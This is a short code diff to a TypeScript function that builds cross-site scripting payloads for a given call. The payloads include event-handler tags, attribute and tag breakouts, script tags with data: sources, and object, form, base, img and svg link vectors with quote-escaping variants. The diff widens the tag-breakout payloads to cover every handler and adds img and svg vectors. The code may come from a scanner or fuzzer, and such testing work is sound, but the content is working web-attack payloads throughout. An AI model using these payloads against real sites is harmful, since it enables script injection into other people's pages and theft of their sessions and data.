@@ -48,9 +48,7 @@ export function scripts(call: string): string[] {
   const markup = [
     ...HANDLERS.map(([tag, event]) => `<${tag} ${event}=${call}>`),
     ...HANDLERS.map(([tag, event]) => `"><${tag} ${event}='${call}'//`),
-    ...HANDLERS.slice(0, 12).map(
-      ([tag, event]) => `</title></textarea></style></script><${tag} ${event}="${encoded}">`,
-    ),
+    ...HANDLERS.map(([tag, event]) => `</title></textarea></style></script><${tag} ${event}="${encoded}">`),
     ...["", " type=module", " src=data:text/javascript,", " defer async"].map(
       (rest) => `<script${rest}>${call}</script>`,
     ),
@@ -86,6 +84,8 @@ export function scripts(call: string): string[] {
       (address: string) => `<object data="${address}"></object>`,
       (address: string) => `<form action="${address}"><button autofocus>x</button></form>`,
       (address: string) => `<base href="${address}">`,
+      (address: string) => `<img src="${address}">`,
+      (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
     ].map((write) => write(scheme + call)),
   );
   const quotes = ['"', "'", "`", "\\", "\\u0022", "&quot;", "\u2028", "%22"].flatMap((quote) => [
